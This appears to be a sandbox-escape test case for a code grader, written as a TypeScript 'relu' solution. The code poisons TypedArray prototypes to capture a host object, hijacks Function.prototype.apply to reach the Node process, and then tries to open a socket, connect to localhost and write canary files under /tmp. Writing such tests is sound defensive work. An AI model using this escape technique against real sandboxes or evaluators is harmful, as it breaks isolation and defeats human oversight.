// 102-answer-in-disguise [escape]
// Tries: answers with typed arrays, lengths, iterators and species of its own making, so that whoever copies the bytes asks the work
// A correct grader must report: wrong or forbidden or crash or protocol. No host object, no socket, no connection.
let H: any = null; let proc: any = null; let st = '';
const root = (x: any) => { let r = x; for (let p = x; p !== null; p = Object.getPrototypeOf(p)) r = p; return r; };
const foreign = (x: any) => ((typeof x === 'object' && x !== null) || typeof x === 'function') && root(x) !== Object.prototype && root(x) !== x;
const take = (x: any) => { if (H === null && foreign(x)) H = x; };
const pwn = () => { if (!proc || st) return; st = 'PROCESS '; const t = (f: () => any) => { try { f(); } catch (e) { st += e; } };
  t(() => { const s = proc.getBuiltinModule('node:net').createServer(() => {}); s.on('error', () => {}); s.listen('/tmp/pravah-canary/pwned-102.sock'); });
  t(() => { const s = proc.getBuiltinModule('node:net').connect(18999, '127.0.0.1'); s.on('error', () => {}); });
  t(() => proc.getBuiltinModule('node:fs').writeFileSync('/tmp/pravah-canary/pwned-102', 'x')); };
const climb = () => { if (!H) return; try { let F: any = H; while (F && typeof F !== 'function') F = F.constructor; let FP = F; while (Object.getPrototypeOf(FP) !== root(FP)) FP = Object.getPrototypeOf(FP);
  const apply = FP.apply; FP.apply = function (self: any, args: any) { if (self && typeof self.getBuiltinModule === 'function') { proc = self; FP.apply = apply; pwn(); } return Reflect.apply(this, self, args ?? []); }; Promise.reject(1); } catch (e) { st += 'climb ' + e; } };
const TA: any = Object.getPrototypeOf(Uint8Array);
for (const k of ['length', 'buffer', 'byteLength', 'byteOffset']) { const d = Object.getOwnPropertyDescriptor(TA.prototype, k)!; try { Object.defineProperty(TA.prototype, k, { configurable: true, get(this: any) { take(this); return Reflect.apply(d.get!, this, []); } }); } catch {} }
for (const k of ['set', 'slice', 'subarray', Symbol.iterator]) { const f = TA.prototype[k]; try { TA.prototype[k] = function (this: any, ...a: any[]) { take(this); for (const x of a) take(x); return Reflect.apply(f, this, a); }; } catch {} }
try { Object.defineProperty(TA, Symbol.species, { get(this: any) { take(this); return this; } }); Object.defineProperty(Uint8Array, Symbol.hasInstance, { value: (x: any) => (take(x), true) }); } catch {}
export function relu(_x: number[]): number[] { climb(); const a: any = new Float64Array([7]); a.constructor = class { constructor(x: any) { take(x); } }; return a; }
export function reluBackward(_d: number[], _x: number[]): number[] { pwn(); throw new Error('H=' + (H !== null) + ' ' + st); }
